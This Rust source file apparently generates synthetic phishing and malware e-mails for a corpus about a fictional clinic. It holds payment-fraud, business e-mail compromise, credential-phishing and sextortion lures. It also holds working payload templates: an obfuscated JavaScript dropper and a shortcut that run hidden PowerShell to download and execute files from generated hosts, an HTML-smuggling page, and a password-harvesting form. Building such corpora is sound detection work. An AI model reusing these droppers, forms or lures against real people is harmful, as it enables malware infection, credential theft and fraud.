                    fixed.u16(..1000)
                ),
                format!(
                    "Pay to IBAN: LT{:02} 3250 {:04} {:04} {:04}",
                    fixed.u8(10..99),
                    fixed.u16(..9999),
                    fixed.u16(..9999),
                    fixed.u16(..9999)
                ),
                "Payment terms: immediate".to_owned(),
            ];
            draft.attachments.push(File::new(
                files::PDF,
                format!("INV-{}.pdf", fixed.u32(10_000..99_999)),
                files::pdf(
                    cx.rng,
                    "Invoice",
                    "Microsoft: Print To PDF",
                    at,
                    &[lines],
                    PdfExtras::default(),
                ),
            ));
        }
        draft
    } else {
        let (real, domain) = choose(fixed, PARTNER_LOOKALIKES);
        let org = SUPPLIERS
            .iter()
            .chain(PARTNERS)
            .find(|o| o.domain == real)
            .copied()
            .unwrap_or(SUPPLIERS[0]);
        let (first, last, title) = choose(fixed, org.people);
        let local = local_part(first, last);
        let route = attacker_route(fixed, &local, domain);
        let victim = cx
            .world
            .in_department(cx.rng, choose(fixed, &["Finance", "Procurement"]))
            .clone();
        let number = format!("INV-2026-{:05}", fixed.u32(..99_999));
        let reply = chance(fixed, 50);
        let subject = if reply {
            format!("RE: Invoice {number}")
        } else {
            "Change of bank details".to_owned()
        };
        let mut paragraphs = vec![
            format!("Dear {},", victim.first),
            format!("Please note that {} has changed its bank. From today all payments, including invoice {number}, should be made to the account in the attached letter. Our previous account is being audited and can no longer receive funds.", org.name),
            "Kindly confirm when the records have been updated and let us know the expected payment date.".to_owned(),
            format!("Kind regards,\r\n{first} {last}\r\n{title}\r\n{}", org.name),
        ];
        if reply {
            paragraphs.push(super::text::angle_quote(&format!("On {}, {} wrote:", local_day(cx.delivered - 5 * 86_400), victim.display), &format!("Hi {first},\r\n\r\nThanks, the invoice is approved and will go in the next payment run.\r\n\r\n{}", victim.first)));
        }
        let mut draft = Draft::new(
            "lookalike_partner_domain",
            Client::Kit,
            (format!("{first} {last}"), format!("{local}@{domain}")),
            victim.mailbox(),
            subject,
            route,
        );
        draft.text = Some(super::text::plain(&paragraphs));
        let letter = vec![
            format!("{} - Notice of change of bank details", org.name),
            format!("Effective {}", local_day(cx.delivered)),
            format!(
                "New IBAN: PT50 {:04} {:04} {:04} {:04} {:04} {}",
                fixed.u16(..9999),
                fixed.u16(..9999),
                fixed.u16(..9999),
                fixed.u16(..9999),
                fixed.u16(..9999),
                fixed.u8(..9)
            ),
            "BIC: BCOMPTPL".to_owned(),
            format!("Signed: {first} {last}, {title}"),
        ];
        draft.attachments.push(File::new(
            files::PDF,
            "Bank_details_change.pdf",
            files::pdf(
                cx.rng,
                "Change of bank details",
                "Microsoft: Print To PDF",
                at,
                &[letter],
                PdfExtras::default(),
            ),
        ));
        draft
    }
}

// --- Credential phishing --------------------------------------------------------------

/// The lure: brand, subject, heading, what it says, the button.
const CREDENTIAL_LURES: &[(&str, &str, &str, &str, &str)] = &[
    (
        "Microsoft 365",
        "Password expiry notice for {email}",
        "Your password expires today",
        "The password for {email} expires today. To keep using your current password, confirm your account below. If you do nothing you will be signed out of Outlook, Teams and OneDrive.",
        "Keep current password",
    ),
    (
        "Microsoft Outlook",
        "Mailbox storage full - action required",
        "Your mailbox is 98% full",
        "You can no longer send or receive messages once the limit is reached. Messages are being held on the server. Verify your account to increase your storage at no cost.",
        "Increase storage",
    ),
    (
        "SharePoint",
        "{sender} shared \"Q4 Salary Adjustments.pdf\" with you",
        "A document has been shared with you",
        "{sender} has shared a secure document with you. Sign in with your work account to view it.",
        "Open document",
    ),
    (
        "DocuSign",
        "Please DocuSign: Employment Contract Amendment 2027",
        "Please review and sign",
        "Human Resources sent you a document to review and sign: Employment Contract Amendment 2027.",
        "REVIEW DOCUMENT",
    ),
    (
        "Voicemail",
        "New voicemail from +44 20 7946 0{n} (0:47)",
        "You have a new voice message",
        "Caller: +44 20 7946 0{n}\r\nDuration: 0:47\r\nThe message is stored in your mailbox. Sign in to play it.",
        "Play message",
    ),
    (
        "Microsoft account",
        "Unusual sign-in activity",
        "Unusual sign-in activity",
        "We detected a sign-in to {email} from an unrecognised device in Lagos, Nigeria. If this was not you, review the activity and secure your account.",
        "Review recent activity",
    ),
    (
        "Payroll",
        "Your salary increase letter for 2027",
        "Salary review 2027",
        "Your revised salary letter is ready. Sign in to the payroll portal with your work e-mail to view and accept it before the end of the week.",
        "View letter",
    ),
    (
        "Adobe Acrobat Sign",
        "Remittance advice {n} - please review",
        "Remittance advice",
        "A remittance document has been shared with you for review. Sign in with your e-mail account to access the secure PDF.",
        "Open PDF",
    ),
    (
        "Microsoft 365",
        "Réinitialisation de votre mot de passe",
        "Votre mot de passe expire aujourd'hui",
        "Le mot de passe de {email} expire aujourd'hui. Veuillez vérifier votre compte pour conserver votre mot de passe actuel.",
        "Conserver le mot de passe",
    ),
    (
        "Microsoft 365",
        "Ihr Postfach ist fast voll",
        "Postfachspeicher fast voll",
        "Ihr Postfach hat das Speicherlimit fast erreicht. Bestätigen Sie Ihr Konto, um den Speicher zu erweitern.",
        "Jetzt bestätigen",
    ),
];

fn credential_phish(cx: &mut Context<'_>, fixed: &mut Rng) -> Draft {
    let (brand, subject, heading, body, button) = choose(fixed, CREDENTIAL_LURES);
    let host = login_host(fixed);
    let mismatch = chance(fixed, 40);
    let qr = chance(fixed, 12);
    let victim = someone(cx);
    let sharer = cx.world.anyone(fixed).display.clone();
    let n = fixed.u16(100..999).to_string();
    let fill = |s: &str| {
        s.replace("{email}", &victim.address)
            .replace("{sender}", &sharer)
            .replace("{n}", &n)
    };
    let sender_kind = fixed.u8(..3);
    let (from, route, client): (Mailbox, Route, Client) = match sender_kind {
        0 => {
            let (domain, org, client) = choose(fixed, COMPROMISED);
            let local = choose(
                fixed,
                &[
                    "info",
                    "accounts",
                    "office",
                    "admin",
                    "j.wright",
                    "reception",
                ],
            );
            let name = if chance(fixed, 50) {
                brand.to_owned()
            } else {
                org.to_owned()
            };
            (
                (name, format!("{local}@{domain}")),
                compromised_route(fixed, local, domain, client),
                client,
            )
        }
        1 => {
            let domain = choose(
                fixed,
                &[
                    "msonline-verify.com",
                    "office365-alerts.net",
                    "m365-securemail.com",
                    "secure-docusign.net",
                    "docusign-envelope.com",
                    "sharepoint-docs.online",
                    "onedrive-filesync.com",
                    "adobe-sign-docs.com",
                    "voicemail-portal.net",
                    "payroll-portal.info",
                ],
            );
            let local = choose(
                fixed,
                &["no-reply", "notification", "security", "admin", "mailer"],
            );
            (
                (brand.to_owned(), format!("{local}@{domain}")),
                attacker_route(fixed, local, domain),
                Client::Kit,
            )
        }
        _ => {
            let (domain, client, policy) = choose(fixed, FREEMAIL);
            let local = format!(
                "{}{}",
                pick(
                    fixed,
                    &["support.team", "mailadmin", "helpdesk.it", "notice"]
                ),
                fixed.u16(..999)
            );
            (
                (brand.to_owned(), format!("{local}@{domain}")),
                freemail_route(fixed, &local, domain, client, policy, 0),
                client,
            )
        }
    };
    let subject = fill(subject);
    let mut draft = Draft::new(
        "credential_phish",
        client,
        from,
        victim.mailbox(),
        subject.clone(),
        route,
    );
    draft.transit = cx.rng.i64(2..120);
    let target = login_url(cx.rng, &host, &victim.address);
    let url = wrapped(cx.rng, &target);
    let paragraphs: Vec<String> = fill(body).split("\r\n").map(str::to_owned).collect();
    let footer = "This message was sent from an unmonitored address. Please do not reply.";
    if qr {
        draft.template = "credential_phish_qr";
        let cid = format!(
            "image001.png@01DB{}.{}",
            hex(cx.rng, 4, true),
            hex(cx.rng, 8, true)
        );
        if let Ok(png) = files::png(cx.rng, 246, 246, Picture::QrCode) {
            draft.inline.push((cid.clone(), png));
        }
        let mut html = format!("<h2>{}</h2>", esc(&fill(heading)));
        for p in &paragraphs {
            html.push_str(&format!("<p>{}</p>", esc(p)));
        }
        html.push_str(&format!(
            "<p>Scan the QR code below with your phone's camera to continue. The code expires in 24 hours.</p><p><img src=\"cid:{cid}\" width=\"200\" height=\"200\" alt=\"QR code\"></p><p style=\"font-size:11px\">{footer}</p>"
        ));
        draft.html = Some(html_page(&subject, &html));
        draft.text = Some(format!(
            "{}\r\n\r\nScan the QR code in this message with your phone to continue.\r\n",
            paragraphs.join("\r\n")
        ));
    } else {
        let shown = mismatch.then(|| match brand {
            "DocuSign" => "https://na3.docusign.net/Signing/EmailStart.aspx".to_owned(),
            "SharePoint" => "https://riversideclinic.sharepoint.com/:b:/s/HR/Documents".to_owned(),
            _ => "https://login.microsoftonline.com/common/oauth2/v2.0/authorize".to_owned(),
        });
        draft.html = Some(brand_html(
            brand,
            &fill(heading),
            &paragraphs,
            button,
            &url,
            shown.as_deref(),
            footer,
        ));
        if chance(fixed, 60) {
            draft.text = Some(format!(
                "{}\r\n\r\n{button}: {url}\r\n\r\n{footer}\r\n",
                paragraphs.join("\r\n")
            ));
        }
    }
    draft
}

// --- Malicious attachments ------------------------------------------------------------

/// The lure: subject, what the message says, and the attachment's stem.
const ATTACHMENT_LURES: &[(&str, &str, &str)] = &[
    (
        "Invoice {n} overdue",
        "Please find attached the overdue invoice {n}. Kindly arrange payment today to avoid late fees.",
        "Invoice_{n}",
    ),
    (
        "Remittance advice - payment {n}",
        "We have made a payment to your account. Please see the remittance advice attached for the details.",
        "Remittance_Advice_{n}",
    ),
    (
        "DHL Shipment Notification: AWB {n}",
        "Your parcel could not be delivered because the customs duty is unpaid. Open the attached shipping documents to arrange delivery.",
        "DHL_AWB_{n}",
    ),
    (
        "Purchase order PO-{n}",
        "Please find our purchase order attached. Confirm prices and the delivery date by return.",
        "PO-{n}",
    ),
    (
        "Scanned document",
        "Please see the attached scanned document for your review.",
        "Scan_{n}",
    ),
    (
        "Statement of account - November 2026",
        "Please find attached your statement of account. Several items are past due.",
        "Statement_{n}",
    ),
    (
        "RE: Contract documents",
        "As discussed, here are the signed contract documents. Let me know if anything is missing.",
        "Contract_{n}",
    ),
    (
        "Facture impayée n° {n}",
        "Veuillez trouver ci-joint la facture n° {n} restée impayée. Merci de procéder au règlement.",
        "Facture_{n}",
    ),
    (
        "Rechnung {n} - Zahlungserinnerung",
        "Anbei erhalten Sie die offene Rechnung {n}. Bitte begleichen Sie den Betrag umgehend.",
        "Rechnung_{n}",
    ),
];

const JS_DROPPER: &str = "var _0x3f2a=['\\x57\\x53\\x63\\x72\\x69\\x70\\x74\\x2e\\x53\\x68\\x65\\x6c\\x6c','\\x52\\x75\\x6e'];\r\n\
var s=new ActiveXObject(_0x3f2a[0]);\r\n\
var u='https://{host}/dl/'+Math.random().toString(36).slice(2);\r\n\
s[_0x3f2a[1]]('powershell -nop -w hidden -c \"iwr '+u+' -OutFile $env:TEMP\\\\u.exe; Start-Process $env:TEMP\\\\u.exe\"',0,false);\r\n";

fn html_credential_page(victim: &str, post_to: &str, brand: &str) -> String {
    format!(
        "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>{brand}</title>\
         <style>body{{font-family:Segoe UI,Arial;background:#f2f2f2}}.box{{width:360px;margin:80px auto;background:#fff;padding:40px}}</style></head>\
         <body><div class=\"box\"><img src=\"data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=\" alt=\"\">\
         <h3>Sign in to view the document</h3><p>Because you are accessing sensitive info, you need to verify your password.</p>\
         <form action=\"{post_to}\" method=\"post\"><input type=\"email\" name=\"login\" value=\"{victim}\" readonly>\
         <input type=\"password\" name=\"passwd\" placeholder=\"Password\" required><button type=\"submit\">Sign in</button></form>\
         <script>document.forms[0].onsubmit=function(){{setTimeout(function(){{location.href='https://office.com'}},1500)}}</script></div></body></html>"
    )
}

fn html_smuggling_page(rng: &mut Rng, inner_name: &str, inner: &[u8]) -> String {
    const B64: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut encoded = String::with_capacity(inner.len() * 4 / 3 + 4);
    for chunk in inner.chunks(3) {
        let b = [
            chunk[0],
            *chunk.get(1).unwrap_or(&0),
            *chunk.get(2).unwrap_or(&0),
        ];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for i in 0..4 {
            if i <= chunk.len() {
                encoded.push(B64[((n >> (18 - 6 * i)) & 63) as usize] as char);
            } else {
                encoded.push('=');
            }
        }
    }
    let var = alnum(rng, 6).to_lowercase();
    format!(
        "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>Loading document...</title></head><body>\
         <p style=\"font-family:Arial\">Your document is downloading. If it does not start, <a href=\"#\" id=\"d\">click here</a>.</p>\
         <script>\r\nvar {var}='{encoded}';\r\n\
         function b(s){{var r=atob(s),a=new Uint8Array(r.length);for(var i=0;i<r.length;i++){{a[i]=r.charCodeAt(i);}}return a;}}\r\n\
         var f=new Blob([b({var})],{{type:'application/zip'}});var l=document.getElementById('d');\r\n\
         l.href=URL.createObjectURL(f);l.download='{inner_name}';\r\n\
         if(window.navigator.msSaveOrOpenBlob){{window.navigator.msSaveOrOpenBlob(f,'{inner_name}');}}else{{l.click();}}\r\n</script></body></html>"
    )
}

fn malicious_attachment(cx: &mut Context<'_>, fixed: &mut Rng) -> Draft {
    let (subject, body, stem) = choose(fixed, ATTACHMENT_LURES);
    let payload = fixed.u8(..10);
    let c2 = format!(
        "{}{}.{}",
        pick(fixed, &["cdn", "update", "files", "static", "docs"]),
        hex(fixed, 5, false),
        pick(fixed, &["com", "net", "top", "xyz", "info"])
    );
    let victim = if chance(cx.rng, 50) {
        let department = choose(cx.rng, &["Finance", "Procurement"]);
        cx.world.in_department(cx.rng, department).clone()
    } else {
        someone(cx)
    };
    let n = format!("{}", cx.rng.u32(10_000..999_999));
    let subject = subject.replace("{n}", &n);
    let stem = stem.replace("{n}", &n);
    let spoof_dhl = subject.starts_with("DHL");
    let (from, route, client): (Mailbox, Route, Client) = if spoof_dhl {
        let domain = choose(
            fixed,
            &[
                "dhl-express-delivery.com",
                "dhl-customs-notice.net",
                "dhl-parcel-support.com",
            ],
        );
        (
            ("DHL Express".to_owned(), format!("noreply@{domain}")),
            attacker_route(fixed, "noreply", domain),
            Client::Kit,
        )
    } else if chance(fixed, 60) {
        let (domain, org, client) = choose(fixed, COMPROMISED);
        let (first, last) = (choose(fixed, FIRST_NAMES), choose(fixed, LAST_NAMES));
        let local = local_part(first, last);
        (
            (
                format!("{first} {last} | {org}"),
                format!("{local}@{domain}"),
            ),
            compromised_route(fixed, &local, domain, client),
            client,
        )
    } else {
        let (domain, client, policy) = choose(fixed, FREEMAIL);
        let local = format!(
            "{}{}",
            pick(fixed, &["accounts", "billing", "payments", "finance.dept"]),
            fixed.u16(..999)
        );
        (
            (
                pick(fixed, &["Accounts Department", "Billing", "Payments Team"]).to_string(),
                format!("{local}@{domain}"),
            ),
            freemail_route(fixed, &local, domain, client, policy, 60),
            client,
        )
    };
    let mut draft = Draft::new(
        "malicious_attachment",
        client,
        from.clone(),
        victim.mailbox(),
        subject.clone(),
        route,
    );
    draft.transit = cx.rng.i64(2..300);
    // Greeting and closing in the lure's language.
    let (greetings, closings): (&[&str], &[&str]) = if subject.starts_with("Facture") {
        (
            &["Bonjour,", "Madame, Monsieur,"],
            &["Cordialement,", "Bien à vous,"],
        )
    } else if subject.starts_with("Rechnung") {
        (
            &["Guten Tag,", "Sehr geehrte Damen und Herren,"],
            &["Mit freundlichen Grüßen", "Freundliche Grüße"],
        )
    } else {
        (
            &["Hello,", "Good day,", "Dear customer,", "Hi,"],
            &["Regards,", "Best regards,", "Thanks,"],
        )
    };
    let closing = choose(fixed, closings);
    let mut text = format!(
        "{}\r\n\r\n{}\r\n\r\n",
        pick(fixed, greetings),
        body.replace("{n}", &n)
    );
    let at = cx.delivered - 1_800;
    let (template, file) = match payload {
        0 => (
            "docm_macro",
            macro_document(cx.rng, at, &subject, &c2, false)
                .ok()
                .map(|b| File::new(files::DOCM, format!("{stem}.docm"), b)),
        ),
        1 => (
            "xlsm_macro",
            macro_document(cx.rng, at, &subject, &c2, true)
                .ok()
                .map(|b| File::new(files::XLSM, format!("{stem}.xlsm"), b)),
        ),
        2 => {
            let source = MACRO_DROPPER.replace("{host}", &c2.chars().rev().collect::<String>());
            (
                "xls_legacy_macro",
                files::legacy_workbook_with_macros(
                    at,
                    &[
                        ("ThisWorkbook", "Attribute VB_Name = \"ThisWorkbook\"\r\n"),
                        ("Module1", &source),
                    ],
                )
                .ok()
                .map(|b| File::new(files::XLS, format!("{stem}.xls"), b)),
            )
        }
        3 => {
            let post = format!("https://{}/next.php", login_host(fixed));
            (
                "html_credential_form",
                Some(File::new(
                    files::HTML,
                    format!("{stem}.html"),
                    html_credential_page(&victim.address, &post, "Microsoft 365").into_bytes(),
                )),
            )
        }
        4 => {
            let js = JS_DROPPER.replace("{host}", &c2);
            let inner_zip = files::zip(&[(format!("{stem}.js").as_str(), js.as_bytes())], at)
                .unwrap_or_default();
            (
                "html_smuggling",
                Some(File::new(
                    files::HTML,
                    format!("{stem}.html"),
                    html_smuggling_page(cx.rng, &format!("{stem}.zip"), &inner_zip).into_bytes(),
                )),
            )
        }
        5 => {
            let shortcut = files::lnk(
                &stem,
                "C:\\Windows\\System32\\rundll32.exe",
                "invoice.dll,DllRegisterServer",
                "C:\\Windows\\System32\\imageres.dll,-102",
            );
            let size = cx.rng.usize(40_000..140_000);
            let dll = files::executable(cx.rng, size);
            let iso = files::iso(
                "DOCUMENTS",
                &[
                    (
                        format!("{}.PDF.LNK", stem.to_uppercase()).as_str(),
                        &shortcut,
                    ),
                    ("INVOICE.DLL", &dll),
                ],
                at,
            );
            (
                "iso_lnk",
                Some(File::new(files::OCTET, format!("{stem}.iso"), iso)),
            )
        }
        6 => {
            let shortcut = files::lnk(
                &stem,
                "C:\\Windows\\System32\\cmd.exe",
                &format!(
                    "/c start /min powershell -w hidden -c \"iwr https://{c2}/a -OutFile $env:TEMP\\a.exe; & $env:TEMP\\a.exe\""
                ),
                "C:\\Windows\\System32\\shell32.dll,70",
            );
            let zip = files::zip(&[(format!("{stem}.pdf.lnk").as_str(), &shortcut)], at).ok();
            (
                "zip_lnk",
                zip.map(|b| File::new(files::ZIP, format!("{stem}.zip"), b)),
            )
        }
        7 => {
            let js = JS_DROPPER.replace("{host}", &c2);
            let zip = files::zip(&[(format!("{stem}.js").as_str(), js.as_bytes())], at).ok();
            (
                "zip_js",
                zip.map(|b| File::new(files::ZIP, format!("{stem}.zip"), b)),
            )
        }
        8 => {
            let password = format!("{}", fixed.u32(1000..99_999));
            text.push_str(&format!(
                "The file is password protected for your security. Password: {password}\r\n\r\n"
            ));
            let size = cx.rng.usize(60_000..200_000);
            let zip =
                files::encrypted_zip(cx.rng, &[(format!("{stem}.pdf.exe").as_str(), size)], at);
            (
                "encrypted_zip_invoice",
                Some(File::new(files::ZIP, format!("Invoice_{n}.zip"), zip)),
            )
        }
        _ => {
            // A harmless-looking PDF whose only content is a button to a download.
            let url = format!("https://{c2}/download/{}.zip", hex(cx.rng, 12, false));
            let lines = vec![
                "Document protected".to_owned(),
                "This document is protected by Adobe Document Cloud.".to_owned(),
                "Click OPEN DOCUMENT to download and view it.".to_owned(),
                String::new(),
                "[ OPEN DOCUMENT ]".to_owned(),
            ];
            (
                "pdf_link",
                Some(File::new(
                    files::PDF,
                    format!("{stem}.pdf"),
                    files::pdf(
                        cx.rng,
                        &stem,
                        "Adobe PDF Library 17.11",
                        at,
                        &[lines],
                        PdfExtras {
                            image_bytes: 0,
                            link: Some(&url),
                        },
                    ),
                )),
            )
        }
    };
    draft.template = template;
    if let Some(file) = file {
        draft.attachments.push(file);
    }
    text.push_str(&format!("{closing}\r\n{}\r\n", from.0));
    draft.text = Some(text);
    draft
}

// --- BEC ------------------------------------------------------------------------------

fn bec_display_name(cx: &mut Context<'_>, fixed: &mut Rng) -> Draft {
    let executives = cx.world.executives();
    let story = fixed.u8(..5);
    // Payroll diversion impersonates any member of staff; the others an executive.
    let impersonated: Person = if story == 4 {
        cx.world.anyone(fixed).clone()
    } else {
        executives[fixed.usize(..executives.len())].clone()
    };
    let (domain, client, policy) = choose(fixed, FREEMAIL);
    let first = impersonated.first.to_lowercase();
    let last = impersonated.last.to_lowercase();
    let local = match fixed.u8(..4) {
        0 => format!("{first}.{last}.ceo"),
        1 => format!("{}{last}{}", &first[..1], fixed.u16(1..99)),
        2 => format!("{first}{last}.office"),
        _ => format!("{first}.{last}.riverside"),
    };
    let display = match fixed.u8(..4) {
        0 => impersonated.display.clone(),
        1 => format!("{} {}", impersonated.first, impersonated.last),
        2 if story != 4 => format!("{} ({})", impersonated.display, impersonated.title),
        _ => format!("{} {}", impersonated.first, impersonated.last),
    };
    let route = freemail_route(fixed, &local, domain, client, policy, 60);
    let victim = match story {
        0..=2 => cx.world.in_department(cx.rng, "Finance").clone(),
        4 => cx.world.in_department(cx.rng, "Human Resources").clone(),
        _ => someone(cx),
    };
    let (subject, body): (String, String) = match story {
        0 => (
            (choose(
                fixed,
                &[
                    "Are you available?",
                    "Quick request",
                    "Urgent",
                    "Confidential",
                ],
            ))
            .to_owned(),
            format!(
                "{},\r\n\r\nAre you at your desk? I need you to process a payment today for a confidential acquisition we are finalising. I cannot take calls right now, reply here with your availability and I will send the details.",
                victim.first
            ),
        ),
        1 => (
            "Wire transfer - confidential".to_owned(),
            format!(
                "Hi {},\r\n\r\nPlease process a payment of EUR {},{:03}.00 today to the account below. It is for the consultancy on the new imaging centre and the legal team has approved it. Keep this between us until the board announcement.\r\n\r\nBeneficiary: {} Advisory Ltd\r\nIBAN: GB{:02} BUKB {:04} {:04} {:04} {:02}\r\nReference: RC-{}\r\n\r\nLet me know as soon as it is done.",
                victim.first,
                fixed.u8(18..95),
                fixed.u16(..1000),
                pick(fixed, &["Halden", "Marlow", "Crestview", "Northbank"]),
                fixed.u8(10..99),
                fixed.u16(..9999),
                fixed.u16(..9999),
                fixed.u16(..9999),
                fixed.u8(..99),
                fixed.u16(1000..9999)
            ),
        ),
        2 => (
            "Payment for supplier today".to_owned(),
            format!(
                "{},\r\n\r\nI need you to update the bank details for one of our suppliers and release their pending invoices today; they have sent a letter confirming the change. I will forward it. Do not call them, their office is closed this week.",
                victim.first
            ),
        ),
        3 => (
            "Staff appreciation - gift cards".to_owned(),
            format!(
                "Hi {},\r\n\r\nI want to surprise some of the team with gift cards for their hard work this month. Can you buy 10 Apple gift cards of EUR 200 each? Scratch the back, take a picture of the codes and send them to me here. I will reimburse you today. Keep it a surprise for now.",
                victim.first
            ),
        ),
        _ => (
            "Direct deposit update".to_owned(),
            format!(
                "Hello {},\r\n\r\nI have changed banks and would like my salary paid into my new account before the next payroll. What information do you need from me? I am on the ward all day so e-mail is easier.",
                victim.first
            ),
        ),
    };
    let mut draft = Draft::new(
        "bec_display_name",
        client,
        (display.clone(), format!("{local}@{domain}")),
        victim.mailbox(),
        subject,
        route,
    );
    draft.transit = cx.rng.i64(2..60);
    if chance(fixed, 60) {
        let reply_domain = choose(
            fixed,
            &[
                "outlook.com",
                "gmail.com",
                "protonmail.com",
                "clinic-exec.com",
                "riverside-clinic.org",
            ],
        );
        draft.reply_to = Some((display, format!("{first}.{last}@{reply_domain}")));
    }
    // What the phone app writes under the message, if anything.
    let device = match client {
        Client::AppleMail => "\r\n\r\nSent from my iPhone",
        Client::ExchangeOnline => "\r\n\r\nGet Outlook for Android",
        Client::Gmail if chance(fixed, 50) => "\r\n\r\nSent from my Galaxy",
        _ => "",
    };
    let sign = if story == 4 {
        impersonated.first.clone()
    } else {
        impersonated.display.clone()
    };
    draft.text = Some(format!("{body}\r\n\r\n{sign}{device}\r\n"));
    draft
}

// --- The clinic's own domain, forged --------------------------------------------------

fn own_domain_spoof(cx: &mut Context<'_>, fixed: &mut Rng) -> Draft {
    let story = fixed.u8(..6);
    let victim = someone(cx);
    let domain = if chance(fixed, 80) {
        CORPUS_OWN_DOMAIN
    } else {
        BULK_OWN_DOMAINS[1 + fixed.usize(..2)]
    };
    let at = cx.delivered - 600;
    let host = login_host(fixed);
    let (from, subject, template): (Mailbox, String, &'static str) = match story {
        0 => (
            ("Xerox WorkCentre".to_owned(), format!("scanner@{domain}")),
            "Scanned from a Xerox Multifunction Printer".to_owned(),
            "spoofed_scanner",
        ),
        1 => (
            ("Voicemail".to_owned(), format!("voicemail@{domain}")),
            format!(
                "New voicemail from +44 1632 96{:04} (0:{:02})",
                fixed.u16(..9999),
                fixed.u8(10..59)
            ),
            "spoofed_voicemail",
        ),
        2 => (
            (
                "IT Service Desk".to_owned(),
                format!("it.servicedesk@{domain}"),
            ),
            "Action required: mailbox migration to the new server".to_owned(),
            "spoofed_it_notice",
        ),
        3 => {
            let ceo = &cx.world.executives()[0];
            (
                ceo.mailbox(),
                "Urgent wire transfer before noon".to_owned(),
                "spoofed_executive",
            )
        }
        4 => (
            (victim.display.clone(), victim.address.clone()),
            format!("{} - your account has been compromised", victim.address),
            "spoofed_self_extortion",
        ),
        _ => (
            ("Payroll".to_owned(), format!("payroll@{domain}")),
            "Updated payslip and tax form for November".to_owned(),
            "spoofed_payroll",
        ),
    };
    let route = forged_route(fixed, &from.1, Policy::Quarantine);
    let mut draft = Draft::new(
        template,
        Client::Kit,
        from.clone(),
        victim.mailbox(),
        subject.clone(),
        route,
    );
    draft.transit = cx.rng.i64(2..60);
    let target = login_url(cx.rng, &host, &victim.address);
    let url = wrapped(cx.rng, &target);
    match story {
        0 => {
            draft.text = Some(format!(
                "Please open the attached document. It was scanned and sent to you using a Xerox Multifunction Printer.\r\n\r\nNumber of Images: {}\r\nAttachment File Type: PDF\r\nDevice Name: XRX-2F-EAST\r\n",
                fixed.u8(1..6)
            ));
            let lines = vec![
                "Secure document".to_owned(),
                "Sign in with your clinic account to view the scanned document.".to_owned(),
                String::new(),
                "[ VIEW DOCUMENT ]".to_owned(),
            ];
            draft.attachments.push(File::new(
                files::PDF,
                format!("Scan_{}.pdf", hex(cx.rng, 6, false)),
                files::pdf(
                    cx.rng,
                    "Scanned document",
                    "Xerox WorkCentre 7855",
                    at,
                    &[lines],
                    PdfExtras {
                        image_bytes: 0,
                        link: Some(&url),
                    },
                ),
            ));
        }
        1 => {
            draft.text = Some(
                "You have received a new voice message. Open the attachment to play it.\r\n"
                    .to_owned(),
            );
            let post = format!("https://{}/vm.php", login_host(fixed));
            draft.attachments.push(File::new(
                files::HTML,
                format!("VM_{}_Play.htm", fixed.u32(1000..9999)),
                html_credential_page(&victim.address, &post, "Voicemail").into_bytes(),
            ));
        }
        2 => {
            let paragraphs = vec![
                format!("Dear {},", victim.first),
                "Your mailbox is scheduled for migration to the new server tonight. To avoid losing e-mail, confirm your account before 17:00.".to_owned(),
            ];
            draft.html = Some(brand_html(
                "Riverside Clinic IT",
                "Mailbox migration",
                &paragraphs,
                "Confirm account",
                &url,
                None,
                "IT Service Desk, extension 4444",
            ));
            draft.text = Some(format!(
                "{}\r\n\r\nConfirm account: {url}\r\n",
                paragraphs.join("\r\n\r\n")
            ));
        }
        3 => {
            let ceo = &cx.world.executives()[0];
            draft.reply_to = Some((
                ceo.display.clone(),
                format!(
                    "{}.{}.director@{}",
                    ceo.first.to_lowercase(),
                    ceo.last.to_lowercase(),
                    pick(fixed, &["gmail.com", "outlook.com"])
                ),
            ));
            draft.text = Some(format!(
                "{},\r\n\r\nI need you to process a payment before noon; it is confidential. Reply to me here, I am in meetings all day and cannot take calls.\r\n\r\n{}\r\n",
                victim.first, ceo.display
            ));
        }
        4 => {
            draft.text = Some(format!(
                "Hello!\r\n\r\nI have to share bad news with you. I hacked your device and gained access to your account {}, as you can see I sent this e-mail from it.\r\nI have recordings of you made with your camera. To delete them, send 1450 EUR in Bitcoin to this address: bc1q{}\r\nYou have 48 hours. Do not reply, this mailbox is not monitored.\r\n",
                victim.address,
                alnum(cx.rng, 38).to_lowercase()
            ));
        }
        _ => {
            draft.text = Some(format!(
                "Dear {},\r\n\r\nYour November payslip and the updated tax form are ready. Open the attached document and sign in to confirm your details.\r\n\r\nPayroll Team\r\n",
                victim.first
            ));
            if let Ok(doc) = macro_document(
                cx.rng,
                at,
                "Payslip November 2026",
                &format!("pay-{}.com", hex(fixed, 5, false)),
                false,
            ) {
                draft
                    .attachments
                    .push(File::new(files::DOCM, "Payslip_November_2026.docm", doc));
            }
        }
    }
    draft.id_domain = domain.to_owned();
    draft
}
